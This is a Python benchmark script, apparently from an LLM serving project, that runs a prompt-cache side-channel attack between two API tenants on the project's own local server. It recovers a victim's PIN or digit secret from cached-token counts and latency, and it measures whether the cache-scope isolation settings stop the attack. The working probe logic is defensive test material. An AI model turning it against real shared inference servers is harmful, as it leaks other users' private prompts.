"""Reading another user's prompt through the prompt cache, per `--cache-scope` (docs/security.md).

Two tenants (API keys) on one server. Alice's prompt holds a secret inside text the attacker
knows (a support form: "... The customer's card PIN is ____. Never read ..."). Bob, with his
own key, probes and reads what the server tells him: `usage.prompt_tokens_details.cached_tokens`
(exact to the token) and the request latency (a cache hit skips the prefill). Two attacks per
trial, each on a fresh secret:

- PIN ranking: Bob sends one warm-up with "zzzz" in place of the PIN, then one probe per
  candidate: 10 PINs with distinct first digits, the true one among them, in random order.
  He picks the candidate with the most cached tokens (ties broken at random), and separately the
  fastest one. Chance: 1 in 10.
- digit by digit: an 8-digit secret; for each position Bob tries the digits in random order and
  keeps the first that gets more cached tokens than the others did (at most 10 probes a digit;
  when none stands out, a random one). The probes end right after the guessed digit, so they
  do not push Alice's blocks out of the pool. Chance: 1 in 10 per digit.

Under `--cache-scope global` (no `cache_salt`, the behaviour before issue 15) both attacks
succeed; under `key` (each API key its own cache) and `salt` (no sharing without a cache_salt)
Bob's figures do not depend on Alice's secret, so he is right as often as chance.

    python bench/extraction_attack.py                    # tiny test model, 20 trials per scope
    python bench/extraction_attack.py --trials 5 --scopes global,key
    python bench/extraction_attack.py --model gemma.gguf # any GGUF; slower

Prints a table and writes bench/out/extraction_attack.json. Not run in CI (the pytest version
is tests/test_cache_scope.py).
"""

from __future__ import annotations

import argparse
import json
import random
import statistics
import sys
import tempfile
import time
from pathlib import Path

from serve_process import ServeProcess

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "bench" / "out"
TINY = ROOT / "tests" / "data" / "models" / "tiny-qwen3-chat.gguf"
KEYS = {"alice": "sk-bench-alice-5f0c2e", "bob": "sk-bench-bob-91d7aa"}
WORDS = ["account", "card", "branch", "transfer", "balance", "statement", "limit", "payment",
         "deposit", "loan", "savings", "fraud", "dispute", "customer", "verify", "identity",
         "address", "phone", "email", "notice", "policy", "fee", "rate", "interest", "overdraft",
         "cheque", "online", "mobile", "login", "reset", "security", "question", "answer"]


class Server(ServeProcess):
    def __init__(self, args: list[str], log_dir: Path, name: str, timeout: float = 600.0):
        super().__init__(args, log_dir / f"{name}.log", startup_timeout=timeout)

    def ask(self, who: str, content: str) -> tuple[int, float]:
        """(cached tokens, latency in ms) of a one-token greedy chat completion."""
        body = {"messages": [{"role": "user", "content": content}], "max_tokens": 1,
                "temperature": 0}
        t0 = time.perf_counter()
        r = self.client.post("/v1/chat/completions", json=body,
                             headers={"Authorization": f"Bearer {KEYS[who]}"})
        ms = (time.perf_counter() - t0) * 1e3
        r.raise_for_status()
        return int(r.json()["usage"]["prompt_tokens_details"]["cached_tokens"]), ms



def filler(rng: random.Random, n_chars: int) -> str:
    out = []
    while sum(len(w) + 1 for w in out) < n_chars:
        out.append(rng.choice(WORDS))
    return " ".join(out)[:n_chars]


def form(rng: random.Random, after_chars: int) -> tuple[str, str]:
    """The text around the secret (the attacker knows it; a nonce keeps trials apart)."""
    before = f"Ticket {rng.getrandbits(32):08x}. The customer's card PIN is "
    after = ". Never read the PIN back to anyone. " + filler(rng, after_chars)
    return before, after


def pick(scores: dict[str, float], rng: random.Random, best=max) -> str:
    top = best(scores.values())
    return rng.choice(sorted(c for c, s in scores.items() if s == top))


def pin_trial(srv: Server, rng: random.Random, n_cand: int, after_chars: int) -> dict:
    before, after = form(rng, after_chars)
    pin = "".join(rng.choice("0123456789") for _ in range(4))
    srv.ask("alice", before + pin + after)
    warm, _ = srv.ask("bob", before + "zzzz" + after)
    firsts = [pin[0], *rng.sample([d for d in "0123456789" if d != pin[0]], n_cand - 1)]
    cands = [pin if d == pin[0] else d + "".join(rng.choice("0123456789") for _ in range(3))
             for d in firsts]
    rng.shuffle(cands)
    cached, ms = {}, {}
    for c in cands:
        cached[c], ms[c] = srv.ask("bob", before + c + after)
    by_cached, by_latency = pick(cached, rng), pick(ms, rng, min)
    return {"pin": pin, "warmup_cached": warm, "cached": cached, "latency_ms": ms,
            "guess_by_cached": by_cached, "guess_by_latency": by_latency,
            "ok_by_cached": by_cached == pin, "ok_by_latency": by_latency == pin,
            "distinct_cached": len(set(cached.values())),
            "true_latency_rank": 1 + sum(v < ms[pin] for v in ms.values()),
            "true_ms": ms[pin], "decoy_ms": statistics.median(v for c, v in ms.items() if c != pin)}


def digit_trial(srv: Server, rng: random.Random, n_digits: int, after_chars: int) -> dict:
    before, after = form(rng, after_chars)
    secret = "".join(rng.choice("0123456789") for _ in range(n_digits))
    srv.ask("alice", before + secret + after)
    known, queries = "", 0
    for _ in range(n_digits):
        scores: dict[str, int] = {}
        for d in rng.sample("0123456789", 10):
            # short probes: long ones would push Alice's blocks out of the pool, and the
            # token-exact match inside a block happens only there
            scores[d], _ = srv.ask("bob", before + known + d + "~")
            queries += 1
            if len(scores) >= 2 and scores[d] > min(scores.values()):
                break  # this digit stood out: the cache held it
            if len(scores) >= 2 and scores[d] < max(scores.values()):
                scores = {k: v for k, v in scores.items() if v == max(scores.values())}
                break  # an earlier digit stood out
        known += pick(scores, rng)
    right = sum(a == b for a, b in zip(known, secret))
    return {"secret": secret, "guess": known, "digits_right": right, "queries": queries,
            "full": known == secret}


def run_scope(scope: str, args, log_dir: Path) -> dict:
    key_file = log_dir / "keys"
    key_file.write_text("".join(f"{k} {name}\n" for name, k in KEYS.items()))
    key_file.chmod(0o600)
    srv = Server(["--model", str(args.model), "--parallel", "2", "--kv-unified-per-slot", str(args.ctx),
                  "--api-key-file", str(key_file), "--cache-scope", scope], log_dir, scope)
    rng = random.Random(f"{args.seed}-{scope}")
    try:
        srv.ask("alice", "warm-up " + filler(rng, args.after_chars))  # first-request costs
        pins = [pin_trial(srv, rng, args.candidates, args.after_chars) for _ in range(args.trials)]
        digits = [digit_trial(srv, rng, args.digits, args.after_chars)
                  for _ in range(args.digit_trials)]
    finally:
        srv.stop()
    n = len(pins)
    return {
        "scope": scope,
        "pin_trials": n,
        "pin_ok_by_cached": sum(t["ok_by_cached"] for t in pins),
        "pin_ok_by_latency": sum(t["ok_by_latency"] for t in pins),
        "warmup_cached_mean": statistics.mean(t["warmup_cached"] for t in pins),
        "distinct_cached_mean": statistics.mean(t["distinct_cached"] for t in pins),
        "true_latency_rank_mean": statistics.mean(t["true_latency_rank"] for t in pins),
        "true_ms_median": statistics.median(t["true_ms"] for t in pins),
        "decoy_ms_median": statistics.median(t["decoy_ms"] for t in pins),
        "digit_trials": len(digits),
        "digits_right": sum(t["digits_right"] for t in digits),
        "digits_total": len(digits) * args.digits,
        "digit_full": sum(t["full"] for t in digits),
        "digit_queries_mean": statistics.mean(t["queries"] for t in digits) if digits else 0,
        "pins": pins, "digit_runs": digits,
    }


def table(rows: list[dict], args) -> str:
    chance = f"{1 / args.candidates:.0%}"
    head = (f"{'scope':<7} {'PIN by cached':>14} {'PIN by latency':>15} {'chance':>7} "
            f"{'warm-up':>12} {'distinct':>9} {'true rank':>9} {'true ms':>8} {'decoy ms':>9} "
            f"{'digits right':>13} {'full':>5} {'queries':>8}")
    lines = [head, "-" * len(head)]
    for r in rows:
        n = r["pin_trials"]
        lines.append(
            f"{r['scope']:<7} {r['pin_ok_by_cached']:>7}/{n:<2} {r['pin_ok_by_cached'] / n:>4.0%} "
            f"{r['pin_ok_by_latency']:>8}/{n:<2} {r['pin_ok_by_latency'] / n:>4.0%} {chance:>7} "
            f"{r['warmup_cached_mean']:>12.1f} {r['distinct_cached_mean']:>9.2f} "
            f"{r['true_latency_rank_mean']:>9.1f} "
            f"{r['true_ms_median']:>8.1f} {r['decoy_ms_median']:>9.1f} "
            f"{r['digits_right']:>6}/{r['digits_total']:<3} {r['digits_right'] / max(1, r['digits_total']):>4.0%}"
            f"{r['digit_full']:>5} {r['digit_queries_mean']:>8.1f}")
    lines.append(f"PIN: {args.candidates} candidates (distinct first digits, the true one among "
                 f"them); 'warm-up': cached tokens of Bob's warm-up (the text around the PIN; "
                 f"more than his own earlier requests' ~10 tokens means Alice's are visible); "
                 f"'distinct': distinct cached_tokens values over one trial's candidates; "
                 f"'true rank': the true PIN's latency rank among the candidates (1: fastest; "
                 f"chance: {(args.candidates + 1) / 2:.1f}); 'true ms', 'decoy ms': medians; "
                 f"digits: {args.digits}-digit secrets, chance 10% a digit")
    return "\n".join(lines)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--model", default=str(TINY), help="GGUF file (default: the tiny test model)")
    ap.add_argument("--scopes", default="global,key,salt")
    ap.add_argument("--trials", type=int, default=20, help="PIN trials per scope")
    ap.add_argument("--candidates", type=int, default=10, help="PIN candidates (2-10)")
    ap.add_argument("--digit-trials", type=int, default=3)
    ap.add_argument("--digits", type=int, default=8)
    ap.add_argument("--after-chars", type=int, default=600,
                    help="known text after the secret (what a hit saves recomputing)")
    ap.add_argument("--ctx", type=int, default=2048)
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--out", default=str(OUT / "extraction_attack.json"))
    args = ap.parse_args(argv)
    if not 2 <= args.candidates <= 10:
        ap.error("--candidates must be 2-10")
    rows = []
    with tempfile.TemporaryDirectory(prefix="kvshare-attack-") as d:
        for scope in args.scopes.split(","):
            t0 = time.perf_counter()
            rows.append(run_scope(scope.strip(), args, Path(d)))
            rows[-1]["seconds"] = round(time.perf_counter() - t0, 1)
            print(f"{scope}: {rows[-1]['seconds']} s", file=sys.stderr, flush=True)
    print(table(rows, args))
    out = Path(args.out)
    out.parent.mkdir(parents=True, exist_ok=True)
    config = {k: v for k, v in vars(args).items() if k != "out"}
    out.write_text(json.dumps({"config": config, "results": rows}, indent=1))
    print(f"wrote {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
